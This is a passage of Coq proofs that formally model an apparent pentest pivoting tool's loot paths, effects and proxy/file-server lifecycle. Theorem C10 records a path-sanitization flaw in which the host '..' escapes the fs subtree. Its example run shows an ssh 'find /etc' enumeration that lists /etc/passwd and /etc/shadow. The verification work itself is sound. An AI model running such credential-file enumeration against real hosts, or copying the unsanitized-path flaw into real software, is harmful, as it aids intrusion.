    cleaned. *)
Lemma Clean_elem_dotdot (path elem : string) :
  path <> "" ->
  strings.Split elem filepath.Separator = [elem] ->
  elem <> "" -> elem <> "." -> elem <> ".." ->
  filepath.Clean (path ++ "/" ++ elem ++ "/" ++ "..") = filepath.Clean path.
Proof.
  intros Hp Hsplit H1 H2 H3. unfold filepath.Clean.
  destruct path as [|c path]; [congruence|].
  cbn [append String.eqb filepath.isRooted].
  change (String c (path ++ String "/" (elem ++ "/.."))) with
    (String c path ++ String filepath.Separator (elem ++ String filepath.Separator "..")).
  rewrite !Split_app, Hsplit, !fold_left_app.
  change (strings.Split ".." filepath.Separator) with [".."].
  cbn [fold_left].
  set (r := Ascii.eqb c filepath.Separator).
  set (out := fold_left _ (strings.Split (String c path) filepath.Separator) []).
  assert (E : filepath.cleanStep r (filepath.cleanStep r out elem) ".." = out).
  { unfold filepath.cleanStep at 2.
    apply String.eqb_neq in H1, H2, H3. rewrite H1, H2, H3. cbn [orb].
    unfold filepath.cleanStep. cbn [String.eqb Ascii.eqb Bool.eqb orb].
    now rewrite H3. }
  rewrite E. reflexivity.
Qed.

Lemma Join_fs_dotdot (lootDir : string) :
  lootDir <> "" ->
  filepath.Join [lootDir; "fs"; ".."] = filepath.Clean lootDir.
Proof.
  intros H. cbn [filepath.Join].
  destruct (lootDir =? "") eqn:E; [apply String.eqb_eq in E; congruence|].
  cbn [strings.Join].
  apply (Clean_elem_dotdot lootDir "fs"); try discriminate; [exact H | reflexivity].
Qed.

(** *** [Clean] is idempotent *)

Lemma splitCons_head_no_sep (s : string) (sep : ascii) :
  strings.Split (fst (strings.splitCons s sep)) sep = [fst (strings.splitCons s sep)].
Proof.
  unfold strings.Split. induction s as [|c s IH]; [reflexivity|].
  cbn [strings.splitCons]. destruct (strings.splitCons s sep) as [h t]. cbn [fst] in IH.
  destruct (Ascii.eqb c sep) eqn:E; [reflexivity|].
  cbn [fst strings.splitCons]. destruct (strings.splitCons h sep) as [h' t'].
  rewrite E. now injection IH as -> ->.
Qed.

Lemma Split_pieces (s : string) (sep : ascii) :
  Forall (fun e => strings.Split e sep = [e]) (strings.Split s sep).
Proof.
  unfold strings.Split at 2. induction s as [|c s IH]; cbn [strings.splitCons].
  - constructor; [reflexivity | constructor].
  - pose proof (splitCons_head_no_sep (String c s) sep) as Hh.
    cbn [strings.splitCons] in Hh.
    destruct (strings.splitCons s sep) as [h t].
    destruct (Ascii.eqb c sep); cbn [fst] in Hh.
    + constructor; [reflexivity | exact IH].
    + inversion IH; subst. constructor; [exact Hh | assumption].
Qed.

Lemma cleanStep_cleanOut (rooted : bool) (out : list string) (e : string) :
  strings.Split e filepath.Separator = [e] ->
  cleanOut rooted out -> cleanOut rooted (filepath.cleanStep rooted out e).
Proof.
  intros He Hout. unfold filepath.cleanStep.
  destruct (e =? "") eqn:E1; [exact Hout|].
  destruct (e =? ".") eqn:E2; [exact Hout|]. cbn [orb].
  apply String.eqb_neq in E1, E2.
  destruct (e =? "..") eqn:E3.
  - destruct Hout as [|x out Hx Hn Hout|out Hr Hall].
    + destruct rooted; [constructor|].
      apply cleanOut_dotdot; [reflexivity | constructor].
    + apply String.eqb_neq in Hn. rewrite Hn. exact Hout.
    + cbn [String.eqb Ascii.eqb Bool.eqb]. apply cleanOut_dotdot; [exact Hr|].
      constructor; [reflexivity | exact Hall].
  - apply String.eqb_neq in E3. apply cleanOut_real; [|exact E3|exact Hout].
    repeat split; assumption.
Qed.

Lemma fold_cleanStep_cleanOut (rooted : bool) (elems : list string) :
  Forall (fun e => strings.Split e filepath.Separator = [e]) elems ->
  forall out, cleanOut rooted out ->
              cleanOut rooted (fold_left (filepath.cleanStep rooted) elems out).
Proof.
  induction 1 as [|e elems He _ IH]; intros out Hout; cbn [fold_left].
  - exact Hout.
  - apply IH. now apply cleanStep_cleanOut.
Qed.

(** Reading a cleaned output again gives it back. *)
Lemma fold_cleanStep_rev (rooted : bool) (out : list string) :
  cleanOut rooted out ->
  fold_left (filepath.cleanStep rooted) (List.rev out) [] = out.
Proof.
  induction 1 as [|e out [H1 [H2 _]] H3 Hout IH|out Hr Hall];
    [reflexivity| |].
  - cbn [List.rev]. rewrite fold_left_app, IH. cbn [fold_left].
    unfold filepath.cleanStep.
    apply String.eqb_neq in H1, H2, H3. now rewrite H1, H2, H3.
  - subst rooted. cbn [List.rev]. rewrite fold_left_app. cbn [fold_left].
    assert (E : fold_left (filepath.cleanStep false) (List.rev out) [] = out).
    { induction Hall as [|x out -> Hall IH]; [reflexivity|].
      cbn [List.rev]. rewrite fold_left_app, IH. cbn [fold_left].
      unfold filepath.cleanStep. cbn [String.eqb Ascii.eqb Bool.eqb orb].
      destruct Hall as [|y out -> Hall]; reflexivity. }
    rewrite E. unfold filepath.cleanStep. cbn [String.eqb Ascii.eqb Bool.eqb orb].
    destruct Hall as [|y out -> Hall]; reflexivity.
Qed.

Lemma Split_Join (xs : list string) :
  xs <> [] ->
  Forall (fun e => strings.Split e filepath.Separator = [e]) xs ->
  strings.Split (strings.Join xs "/") filepath.Separator = xs.
Proof.
  intros Hne Hall. induction Hall as [|e xs He Hall IH]; [congruence|].
  destruct xs as [|x xs]; [exact He|].
  change (strings.Join (e :: x :: xs) "/")
    with (e ++ String filepath.Separator (strings.Join (x :: xs) "/")).
  rewrite Split_app, He, IH; [reflexivity | discriminate].
Qed.

Lemma cleanOut_pieces (rooted : bool) (out : list string) :
  cleanOut rooted out ->
  Forall (fun e => e <> "" /\ strings.Split e filepath.Separator = [e]) out.
Proof.
  induction 1 as [|e out [H1 [_ H2]] _ _ IH|out _ Hall].
  - constructor.
  - constructor; [split; assumption | exact IH].
  - constructor; [split; [discriminate | reflexivity]|].
    induction Hall as [|x out -> _ IH]; constructor;
      [split; [discriminate | reflexivity] | exact IH].
Qed.

Lemma Join_not_rooted (xs : list string) :
  xs <> [] ->
  Forall (fun e => e <> "" /\ strings.Split e filepath.Separator = [e]) xs ->
  strings.Join xs "/" <> "" /\ filepath.isRooted (strings.Join xs "/") = false.
Proof.
  intros Hne Hall. destruct Hall as [|e xs [He Hs] _]; [congruence|].
  assert (H : e <> "" /\ filepath.isRooted e = false).
  { split; [exact He|]. destruct e as [|c e]; [congruence|].
    cbn [filepath.isRooted]. destruct (Ascii.eqb c filepath.Separator) eqn:E; [|reflexivity].
    unfold strings.Split in Hs. cbn [strings.splitCons] in Hs.
    destruct (strings.splitCons e filepath.Separator). rewrite E in Hs. discriminate. }
  destruct H as [H1 H2]. destruct e as [|c e]; [congruence|].
  destruct xs; cbn [strings.Join append]; split; try discriminate; exact H2.
Qed.

Lemma Clean_rendered (path : string) :
  exists rooted out, cleanOut rooted out /\ filepath.Clean path = rendered rooted out.
Proof.
  unfold filepath.Clean. destruct (path =? "").
  - exists false, []. split; [constructor | reflexivity].
  - eexists _, _. split; [|reflexivity].
    apply fold_cleanStep_cleanOut; [apply Split_pieces | constructor].
Qed.

Lemma Clean_of_rendered (rooted : bool) (out : list string) :
  cleanOut rooted out -> filepath.Clean (rendered rooted out) = rendered rooted out.
Proof.
  intros Hout.
  pose proof (cleanOut_pieces rooted out Hout) as Hp.
  pose proof (fold_cleanStep_rev rooted out Hout) as Hrev.
  assert (Hp' : Forall (fun e => e <> "" /\ strings.Split e filepath.Separator = [e])
                       (List.rev out)) by (apply Forall_rev; exact Hp).
  assert (Hs : Forall (fun e => strings.Split e filepath.Separator = [e]) (List.rev out)).
  { eapply Forall_impl; [|exact Hp']. intros a [_ H]. exact H. }
  unfold rendered. destruct rooted.
  - set (body := strings.Join (List.rev out) "/").
    assert (Hq1 : ("/" ++ body =? "") = false) by reflexivity.
    assert (Hq2 : filepath.isRooted ("/" ++ body) = true) by reflexivity.
    assert (Hq3 : strings.Split ("/" ++ body) filepath.Separator
                  = "" :: strings.Split body filepath.Separator)
      by apply (Split_app "" body filepath.Separator).
    unfold filepath.Clean. rewrite Hq1, Hq2, Hq3. cbn [fold_left].
    change (filepath.cleanStep true [] "") with (@nil string).
    subst body. destruct (List.rev out) as [|x xs] eqn:Erev.
    + assert (out = []) by (apply (f_equal (@List.rev string)) in Erev;
                            now rewrite List.rev_involutive in Erev).
      subst out. reflexivity.
    + rewrite Split_Join; [|discriminate|exact Hs]. rewrite Hrev, Erev.
      reflexivity.
  - destruct out as [|e out'] eqn:Eout; [reflexivity|].
    assert (Hne : List.rev (e :: out') <> []).
    { intros F. apply (f_equal (@List.length string)) in F.
      rewrite List.length_rev in F. discriminate. }
    destruct (Join_not_rooted _ Hne Hp') as [J1 J2].
    unfold filepath.Clean. apply String.eqb_neq in J1. rewrite J1, J2.
    rewrite Split_Join; [|exact Hne|exact Hs]. now rewrite Hrev.
Qed.

Lemma Clean_idempotent (path : string) :
  filepath.Clean (filepath.Clean path) = filepath.Clean path.
Proof.
  destruct (Clean_rendered path) as (rooted & out & Hout & ->).
  now apply Clean_of_rendered.
Qed.

Lemma ReplaceAll_byte (s : string) (old new : ascii) :
  strings.ReplaceAll s old (String new "")
  = mapBytes (fun c => if Ascii.eqb c old then new else c) s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [strings.ReplaceAll mapBytes]. rewrite IH.
  destruct (Ascii.eqb c old); reflexivity.
Qed.

Lemma mapBytes_compose (f g : ascii -> ascii) (s : string) :
  mapBytes g (mapBytes f s) = mapBytes (fun c => g (f c)) s.
Proof. induction s as [|c s IH]; [reflexivity|]. cbn [mapBytes]. now rewrite IH. Qed.

Lemma mapBytes_ext (f g : ascii -> ascii) (s : string) :
  (forall c, f c = g c) -> mapBytes f s = mapBytes g s.
Proof.
  intros H. induction s as [|c s IH]; [reflexivity|]. cbn [mapBytes].
  now rewrite IH, H.
Qed.

Lemma sanitizeHost_bytes (h : string) :
  core.sanitizeHost h = mapBytes sanitizeByte (strings.TrimSpace h).
Proof.
  unfold core.sanitizeHost.
  change "_" with (String "_"%char "").
  rewrite !ReplaceAll_byte, mapBytes_compose.
  apply mapBytes_ext. intros c. unfold sanitizeByte.
  destruct (Ascii.eqb c ":") eqn:E; [|reflexivity].
  apply Ascii.eqb_eq in E. subst c. reflexivity.
Qed.

Lemma rendered_nonempty (rooted : bool) (out : list string) :
  cleanOut rooted out -> rendered rooted out <> "".
Proof.
  intros Hout. unfold rendered. destruct rooted; [discriminate|].
  destruct out as [|e out']; [discriminate|].
  assert (Hne : List.rev (e :: out') <> []).
  { intros F. apply (f_equal (@List.length string)) in F.
    rewrite List.length_rev in F. discriminate. }
  apply (Join_not_rooted _ Hne). apply Forall_rev. now apply cleanOut_pieces with (rooted := false).
Qed.

Lemma Clean_nonempty (path : string) : filepath.Clean path <> "".
Proof.
  destruct (Clean_rendered path) as (rooted & out & Hout & ->).
  now apply rendered_nonempty.
Qed.

(** The loot root [DefaultLootDir] returns is a clean path. *)
Lemma DefaultLootDir_clean (w : World) (lootDir : string) (t0 : list Event) :
  core.DefaultLootDir w = (lootDir, None, t0) ->
  filepath.Clean lootDir = lootDir /\ lootDir <> "".
Proof.
  unfold core.DefaultLootDir, bind.
  destruct (core.DefaultAppDataDir w) as [[base [e|]] t]; unfold ret; intros H;
    [discriminate|].
  injection H as <- _. cbn [filepath.Join].
  destruct (base =? ""); cbn [String.eqb Ascii.eqb Bool.eqb];
    split; first [apply Clean_idempotent | apply Clean_nonempty].
Qed.

(** The host directory and the artifact of a request whose host is
    "..". *)
Lemma dotdot_paths (req : FSScoutRequest) (lootDir ts : string) :
  Host req = ".." -> filepath.Clean lootDir = lootDir -> lootDir <> "" ->
  fsBaseOf lootDir req = lootDir
  /\ outPathOf lootDir ts req
     = filepath.Join [lootDir;
                      ts ++ "_" ++ Protocol req ++ "_" ++ Mode (defaulted req) ++ ".txt"].
Proof.
  intros Hh Hc Hn.
  assert (E : fsBaseOf lootDir req = lootDir).
  { unfold fsBaseOf. rewrite Hh. change (core.sanitizeHost "..") with "..".
    now rewrite Join_fs_dotdot. }
  split; [exact E|]. unfold outPathOf. now rewrite E.
Qed.

(** C10. [sanitizeHost] is the trimmed host with every ':' and '/'
    replaced by '_' and every other byte, '.' among them, kept: the host
    ".." comes back unchanged. The host directory of such a request,
    [filepath.Join(lootDir, "fs", "..")], is then the (cleaned) loot root
    itself for every loot root. In every world in which the loot root is
    found, a request for the host ".." whose mandatory fields are present
    has the loot root itself created as its host directory and its
    artifact path directly in the loot root, outside the [fs] subtree; the
    example run shows the directory created and the artifact written
    there. *)
Theorem C10_sanitizeHost_dotdot :
  (forall h, core.sanitizeHost h = mapBytes sanitizeByte (strings.TrimSpace h))
  /\ (forall c, sanitizeByte c
                = if Ascii.eqb c ":"%char || Ascii.eqb c "/"%char then "_"%char else c)
  /\ sanitizeByte "."%char = "."%char
  /\ core.sanitizeHost ".." = ".."
  /\ (forall lootDir,
         lootDir = ""
         \/ filepath.Join [lootDir; "fs"; core.sanitizeHost ".."] = filepath.Clean lootDir)
  /\ (forall req w lootDir t0,
         Host req = ".." -> missingField req = false ->
         core.DefaultLootDir w = (lootDir, None, t0) ->
         filepath.Join [lootDir; "fs"; core.sanitizeHost (Host req)] = lootDir
         /\ exists t1,
              snd (core.RunFSScout req w) = (t0 ++ EvMkdirAll lootDir :: t1)%list
              /\ (os_MkdirAll w lootDir = None ->
                  core.OutputFile (fst (fst (core.RunFSScout req w)))
                  = filepath.Join
                      [lootDir;
                       time_Now_Format w core.tsLayout
                       ++ "_" ++ Protocol req ++ "_" ++ Mode (defaulted req) ++ ".txt"]))
  /\ core.RunFSScout Examples.dotdotReq Examples.calm
     = (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/2024-01-01_00-00-00_ssh_fast.txt"
                      "ssh" "fast" ".." "",
        None,
        [EvStat "/home/op/.local/share/PivotOnTheGO";
         EvMkdirAll "/home/op/.local/share/PivotOnTheGO/loot";
         EvRun "ssh" ["-p"; "22"; "root@.."; "find"; "/etc"; "-maxdepth"; "3";
                      "-type"; "f"; "-printf"; "%p" ++ nl];
         EvWriteFile "/home/op/.local/share/PivotOnTheGO/loot/2024-01-01_00-00-00_ssh_fast.txt"
                     ("FILE|/etc/passwd" ++ nl ++ "FILE|/etc/shadow" ++ nl
                      ++ "DENIED|find: '/root': Permission denied" ++ nl)]).
Proof.
  split; [exact sanitizeHost_bytes|]. split; [reflexivity|]. split; [reflexivity|].
  split; [reflexivity|]. split; [|split].
  - intros lootDir. destruct (string_dec lootDir "") as [E|NE]; [now left|right].
    change (core.sanitizeHost "..") with "..". now apply Join_fs_dotdot.
  - intros req w lootDir t0 Hh M HL.
    destruct (DefaultLootDir_clean w lootDir t0 HL) as [Hc Hn].
    destruct (dotdot_paths req lootDir (time_Now_Format w core.tsLayout) Hh Hc Hn)
      as [Eb Eo].
    split; [exact Eb|].
    rewrite (RunFSScout_checked req w M), HL. cbv zeta. rewrite Eb.
    destruct (os_MkdirAll w lootDir) as [e|].
    + exists []. split; [reflexivity | discriminate].
    + destruct (core.dispatch _ _ w) as [[e|] t1]; exists t1; cbn [fst snd];
        (split; [reflexivity | intros _; exact Eo]).
  - vm_compute. reflexivity.
Qed.

Lemma C10_sanitizeHost_dotdot_witness :
  Host Examples.dotdotReq = ".."
  /\ filepath.Join [Examples.lootDir; "fs"; core.sanitizeHost (Host Examples.dotdotReq)]
     = Examples.lootDir.
Proof.
  split; [reflexivity|].
  exact (proj1 (proj1 (proj2 (proj2 (proj2 (proj2 (proj2 C10_sanitizeHost_dotdot)))))
                  Examples.dotdotReq Examples.calm Examples.lootDir
                  [EvStat "/home/op/.local/share/PivotOnTheGO"]
                  eq_refl eq_refl eq_refl)).
Defined.

End Paths.

(** ** Reasoning about effects *)

Section Effects.

Import Contract.

Lemma post_ret {A : Type} (a : A) (w : World) (Q : A -> list Event -> Prop) :
  Q a [] -> post (ret a) w Q.
Proof. intros H. exact H. Qed.

Lemma post_bind {A B : Type} (m : IO A) (k : A -> IO B) (w : World)
      (Q : B -> list Event -> Prop) :
  post m w (fun a t1 => post (k a) w (fun b t2 => Q b (t1 ++ t2)%list)) ->
  post (bind m k) w Q.
Proof.
  unfold post, bind. destruct (m w) as [a t1]. cbn [fst snd].
  destruct (k a w) as [b t2]. cbn [fst snd]. auto.
Qed.

Lemma post_silent {A : Type} (P : Event -> bool) (m : IO A) (w : World)
      (Q : A -> list Event -> Prop) :
  silent P m -> (forall a t, existsb P t = false -> Q a t) -> post m w Q.
Proof. intros Hs HQ. apply HQ, Hs. Qed.

(** Effects on the file system alone. *)
Section FileSystemOnly.

Variable P : Event -> bool.
Hypothesis Pstat : forall p, P (EvStat p) = false.
Hypothesis Pmkdir : forall p, P (EvMkdirAll p) = false.
Hypothesis Pread : forall p, P (EvReadFile p) = false.
Hypothesis Pwrite : forall p d, P (EvWriteFile p d) = false.

Lemma silent_mkdir (p : string) : silent P (os_MkdirAll_ p).
Proof. intros w. cbn. now rewrite Pmkdir. Qed.

Lemma silent_read (p : string) : silent P (os_ReadFile_ p).
Proof. intros w. cbn. now rewrite Pread. Qed.

Lemma silent_write (p d : string) : silent P (os_WriteFile_ p d).
Proof. intros w. cbn. now rewrite Pwrite. Qed.

Lemma silent_unmarshal (d : string) : silent P (json_Unmarshal_Config_ d).
Proof. intros w. reflexivity. Qed.

Ltac quiet :=
  repeat first
    [ apply silent_ret | apply silent_home | apply silent_now
    | apply silent_unmarshal
    | apply silent_stat; apply Pstat
    | apply silent_mkdir | apply silent_read | apply silent_write
    | assumption
    | apply silent_bind; [| intros ?]
    | match goal with
      | |- silent _ (match ?x with _ => _ end) => destruct x
      | |- silent _ (if ?x then _ else _) => destruct x
      end ].

Lemma silent_LegacyAppDataDirPath : silent P core.LegacyAppDataDirPath.
Proof. unfold core.LegacyAppDataDirPath. quiet. Qed.

Lemma silent_DefaultAppDataDir : silent P core.DefaultAppDataDir.
Proof.
  pose proof silent_LegacyAppDataDirPath.
  unfold core.DefaultAppDataDir. quiet.
Qed.

Lemma silent_DefaultLootDir : silent P core.DefaultLootDir.
Proof. pose proof silent_DefaultAppDataDir. unfold core.DefaultLootDir. quiet. Qed.

Lemma silent_writeIfNotExists (p c : string) : silent P (core.writeIfNotExists p c).
Proof. unfold core.writeIfNotExists. quiet. Qed.

Lemma silent_InitLootDir : silent P core.InitLootDir.
Proof.
  pose proof silent_DefaultLootDir. pose proof silent_writeIfNotExists.
  unfold core.InitLootDir. quiet.
Qed.

Lemma silent_ConfigPath : silent P core.ConfigPath.
Proof. unfold core.ConfigPath. quiet. Qed.

Lemma silent_SanitizeConfig (cfg : Config) : silent P (core.SanitizeConfig cfg).
Proof.
  pose proof silent_LegacyAppDataDirPath. pose proof silent_DefaultAppDataDir.
  pose proof silent_InitLootDir.
  unfold core.SanitizeConfig. quiet.
Qed.

Lemma silent_LoadConfig : silent P core.LoadConfig.
Proof.
  pose proof silent_ConfigPath. pose proof silent_SanitizeConfig.
  unfold core.LoadConfig. quiet.
Qed.

Lemma silent_loadConfigOrDefault : silent P ui.loadConfigOrDefault.
Proof. pose proof silent_LoadConfig. unfold ui.loadConfigOrDefault. quiet. Qed.

End FileSystemOnly.

End Effects.

(** ** The lifecycle coordinator *)

Section Coordinator.

Import ui Contract Lifecycle.

Lemma count_app (P : Event -> bool) (t1 t2 : list Event) :
  count P (t1 ++ t2) = count P t1 + count P t2.
Proof. unfold count. now rewrite filter_app, length_app. Qed.

Lemma count_quiet (P : Event -> bool) (t : list Event) :
  (forall e, P e = true -> handleEvent e = true) ->
  existsb handleEvent t = false -> count P t = 0.
Proof.
  intros HP. unfold count. induction t as [|e t IH]; [reflexivity|].
  cbn [existsb filter]. intros H. apply orb_false_elim in H. destruct H as [He Ht].
  destruct (P e) eqn:E; [rewrite (HP e E) in He; discriminate | auto].
Qed.

Lemma quiet_counts (t : list Event) :
  existsb handleEvent t = false ->
  count isStarted t = 0 /\ count isKill t = 0
  /\ count isListening t = 0 /\ count isShutdown t = 0.
Proof.
  intros H. repeat split; apply count_quiet; try exact H;
    intros e He; unfold handleEvent; rewrite He; cbn; now rewrite ?orb_true_r.
Qed.

Lemma stepInv_prepend (st : State) (out : Response * State) (t1 t2 : list Event) :
  existsb handleEvent t1 = false -> stepInv st out t2 -> stepInv st out (t1 ++ t2).
Proof.
  intros Hq [H1 H2]. split; [|exact H2]. intros W.
  destruct (H1 W) as [W' [B1 B2]]. split; [exact W'|].
  destruct (quiet_counts t1 Hq) as (Q1 & Q2 & Q3 & Q4).
  unfold balanced. rewrite !count_app, Q1, Q2, Q3, Q4. cbn [plus]. split; assumption.
Qed.

Lemma stepInv_same (st : State) (resp : Response) :
  stepInv st (resp, st) [].
Proof.
  split; [|now right]. intros W. split; [exact W|]. split; reflexivity.
Qed.

Lemma quiet_loadConfigOrDefault : silent handleEvent loadConfigOrDefault.
Proof. apply silent_loadConfigOrDefault; reflexivity. Qed.

Lemma quiet_SanitizeConfig (cfg : Config) : silent handleEvent (core.SanitizeConfig cfg).
Proof. apply silent_SanitizeConfig; reflexivity. Qed.

(** Sequencing after a computation that touches no handle. *)
Lemma post_bind_quiet {A B : Type} (m : IO A) (k : A -> IO B) (w : World)
      (Q : B -> list Event -> Prop) :
  silent handleEvent m ->
  (forall t1 b t2, existsb handleEvent t1 = false -> Q b t2 -> Q b (t1 ++ t2)%list) ->
  (forall a, post (k a) w Q) ->
  post (bind m k) w Q.
Proof.
  intros Hs Hpre Hk. apply post_bind. apply (post_silent handleEvent _ _ _ Hs).
  intros a t Hq. apply Hpre; [exact Hq | apply Hk].
Qed.

Lemma post_bind_assoc {A B C : Type} (m : IO A) (k : A -> IO B) (h : B -> IO C)
      (w : World) (Q : C -> list Event -> Prop) :
  post (bind m (fun a => bind (k a) h)) w Q -> post (bind (bind m k) h) w Q.
Proof.
  unfold post, bind. destruct (m w) as [a t1]. destruct (k a w) as [b t2].
  destruct (h b w) as [c t3]. cbn [fst snd]. now rewrite app_assoc.
Qed.

Lemma post_ret_bind {A B : Type} (a : A) (h : A -> IO B) (w : World)
      (Q : B -> list Event -> Prop) :
  post (h a) w Q -> post (bind (ret a) h) w Q.
Proof. unfold post, bind, ret. destruct (h a w) as [b t]. cbn [fst snd app]. auto. Qed.

Ltac prepend_quiet :=
  let Hq := fresh "Hq" in
  let H1 := fresh "H" in
  let H2 := fresh "H" in
  intros ? ? ? Hq;
  first [ now apply stepInv_prepend
        | intros [H1 H2]; split; [now apply stepInv_prepend | exact H2] ].

Ltac after_quiet H := apply post_bind_quiet; [ exact H | prepend_quiet | ].

Ltac refused :=
  apply post_ret; split; [apply stepInv_same | intros F; discriminate F].

(** Every handler keeps the handles and the effects in balance. *)
Lemma handleStartProxy_inv (r : Request) (st : State) (w : World) :
  post (handleStartProxy r st) w
       (fun out t => stepInv st out t /\ proxyStarted st out).
Proof.
  unfold handleStartProxy, proxyStarted.
  destruct (negb (Method r =? "POST")); [refused|].
  destruct (proxyCmd st) as [c|] eqn:Ec; [refused|].
  after_quiet quiet_loadConfigOrDefault.
  intros [cfg|]; [|refused].
  after_quiet (quiet_SanitizeConfig cfg). intros cfg1.
  unfold core.StartProxy.
  apply post_bind_assoc. after_quiet (quiet_SanitizeConfig cfg1). intros cfg2.
  apply post_bind_assoc. apply post_bind.
  unfold post at 1, cmd_Start. cbn [fst snd].
  destruct (exec_Start w (ProxyBinary cfg2) _) as [e|]; cbn [isNil];
    apply post_ret_bind, post_ret; cbn [app].
  - split; [|intros F; discriminate F].
    split; [|now right]. intros W. split; [exact W|]. split; reflexivity.
  - split; [|intros _; split; [reflexivity | eexists; reflexivity]].
    split; [|now left]. intros W. split.
    + intros c Hc. cbn in Hc. injection Hc as <-. reflexivity.
    + unfold balanced, proxyHandles, fileHandles. rewrite Ec. cbn. split; reflexivity.
Qed.

Lemma handleStopProxy_inv (r : Request) (st : State) (w : World) :
  post (handleStopProxy r st) w (stepInv st).
Proof.
  unfold handleStopProxy.
  destruct (negb (Method r =? "POST")); [apply post_ret, stepInv_same|].
  destruct (proxyCmd st) as [c|] eqn:Ec; [|apply post_ret, stepInv_same].
  unfold post, bind, emit, ret.
  destruct (Process c) eqn:Ep; cbn; (split; [|now left]); intros W.
  - split; [intros c' Hc'; discriminate|].
    unfold balanced, proxyHandles, fileHandles. rewrite Ec. cbn. split; reflexivity.
  - rewrite (W c Ec) in Ep. discriminate.
Qed.

Lemma handleStatus_inv (r : Request) (st : State) (w : World) :
  post (handleStatus r st) w (stepInv st).
Proof.
  unfold handleStatus.
  destruct (negb (Method r =? "GET")); apply post_ret, stepInv_same.
Qed.

Lemma handleFileStatus_inv (r : Request) (st : State) (w : World) :
  post (handleFileStatus r st) w (stepInv st).
Proof.
  unfold handleFileStatus.
  destruct (negb (Method r =? "GET")); apply post_ret, stepInv_same.
Qed.

Lemma handleFileStart_inv (r : Request) (st : State) (w : World) :
  post (handleFileStart r st) w
       (fun out t => stepInv st out t /\ fileStarted st out).
Proof.
  unfold handleFileStart, fileStarted.
  destruct (negb (Method r =? "POST")); [refused|].
  destruct (fileSrv st) as [s|] eqn:Es; [refused|].
  after_quiet quiet_loadConfigOrDefault.
  intros [cfg|]; [|refused].
  after_quiet (quiet_SanitizeConfig cfg). intros cfg1.
  destruct (FileDirectory cfg1 =? ""); [refused|].
  apply post_bind_quiet;
    [ apply silent_stat; reflexivity | prepend_quiet | ].
  intros [isDir statErr].
  destruct (negb (isNil statErr) || negb isDir); [refused|].
  apply post_bind. unfold post at 1, net_Listen_. cbn [fst snd].
  destruct (net_Listen w _) as [e|]; cbn [isNil].
  - apply post_ret. cbn [app]. split; [|intros F; discriminate F].
    split; [|now right]. intros W. split; [exact W|]. split; reflexivity.
  - unfold post. cbn. split; [|intros _; split; [reflexivity | eexists; reflexivity]].
    split; [|now left]. intros W. split.
    + exact W.
    + unfold balanced, proxyHandles, fileHandles. rewrite Es. cbn. split; reflexivity.
Qed.

Lemma handleFileStop_inv (r : Request) (st : State) (w : World) :
  post (handleFileStop r st) w (stepInv st).
Proof.
  unfold handleFileStop.
  destruct (negb (Method r =? "POST")); [apply post_ret, stepInv_same|].
  destruct (fileSrv st) as [s|] eqn:Es; [|apply post_ret, stepInv_same].
  unfold post, bind, srv_Shutdown_.
  assert (B : forall log, count isShutdown log = 0 -> count isListening log = 0 ->
                          count isStarted log = 0 -> count isKill log = 0 ->
              stepInv st (respondJSON StatusOK (StrMap [("status", "stopped")]),
                          mkState (proxyCmd st) None) (EvShutdown s :: log)).
  { intros log L1 L2 L3 L4. split; [|now left]. intros W. split; [exact W|].
    unfold balanced, proxyHandles, fileHandles.
    change (EvShutdown s :: log) with ([EvShutdown s] ++ log)%list.
    rewrite !count_app, L1, L2, L3, L4, Es. cbn. split; reflexivity. }
  destruct (srv_Shutdown w s) as [e|]; [destruct (negb (isServerClosed e))|];
    cbn; apply B; reflexivity.
Qed.

Lemma serve_inv (ep : Endpoint) (r : Request) (st : State) (w : World) :
  post (serve ep r st) w (stepInv st).
Proof.
  destruct ep; cbn [serve];
    auto using handleStopProxy_inv, handleStatus_inv,
               handleFileStop_inv, handleFileStatus_inv.
  - exact (proj1 (handleStartProxy_inv r st w)).
  - exact (proj1 (handleFileStart_inv r st w)).
Qed.

(** Along every history the handles stay well formed and in balance
    with the effects. *)
Lemma run_inv (calls : list (Endpoint * Request * World)) :
  forall st, wellFormed st ->
    let '(st', _, t) := run calls st in
    wellFormed st' /\ balanced st st' t.
Proof.
  induction calls as [|[[ep r] w] calls IH]; intros st W; cbn [run].
  - split; [exact W|]. split; reflexivity.
  - pose proof (serve_inv ep r st w) as S. unfold post in S.
    destruct (serve ep r st w) as [[resp st1] t1]. cbn [fst snd] in S.
    destruct S as [S _]. destruct (S W) as [W1 [B1 B1']]. cbn [snd] in W1, B1, B1'.
    specialize (IH st1 W1). destruct (run calls st1) as [[st2 resps] t2].
    destruct IH as [W2 [B2 B2']]. split; [exact W2|].
    unfold balanced. rewrite !count_app. split; lia.
Qed.

Lemma wellFormed_initial : wellFormed initial.
Proof. intros c H. discriminate. Qed.

Lemma handleStartProxy_conflict (r : Request) (st : State) (w : World) (c : Cmd) :
  Method r = "POST" -> proxyCmd st = Some c ->
  handleStartProxy r st w
  = (respondError StatusConflict "proxy already running", st, []).
Proof. intros Hm Hc. unfold handleStartProxy. now rewrite Hm, Hc. Qed.

Lemma handleFileStart_conflict (r : Request) (st : State) (w : World) (s : Server) :
  Method r = "POST" -> fileSrv st = Some s ->
  handleFileStart r st w
  = (respondError StatusConflict "file server already running", st, []).
Proof. intros Hm Hs. unfold handleFileStart. now rewrite Hm, Hs. Qed.


(** C1. While a handle exists, Start answers 409 and does nothing: the
    state is the same and no effect is performed, for the proxy and for the
    file server alike. A Start that answers 200 found no handle and leaves
    one, so the Start that follows it is the conflict. Along every history
    of the daemon the handles are the single account of what runs: the
    successful process starts are the kills plus the proxy handle held (at
    most one), the successful listens are the shutdowns plus the
    file-server handle held (at most one); and the status endpoints report
    exactly whether the handle exists. *)
Theorem C1_single_handle :
  (forall r st w c,
      Method r = "POST" -> proxyCmd st = Some c ->
      handleStartProxy r st w
      = (respondError StatusConflict "proxy already running", st, []))
  /\ (forall r st w s,
         Method r = "POST" -> fileSrv st = Some s ->
         handleFileStart r st w
         = (respondError StatusConflict "file server already running", st, []))
  /\ (forall r1 r2 st w1 w2,
         Method r2 = "POST" ->
         Status (fst (fst (handleStartProxy r1 st w1))) = StatusOK ->
         proxyCmd st = None
         /\ handleStartProxy r2 (snd (fst (handleStartProxy r1 st w1))) w2
            = (respondError StatusConflict "proxy already running",
               snd (fst (handleStartProxy r1 st w1)), []))
  /\ (forall r1 r2 st w1 w2,
         Method r2 = "POST" ->
         Status (fst (fst (handleFileStart r1 st w1))) = StatusOK ->
         fileSrv st = None
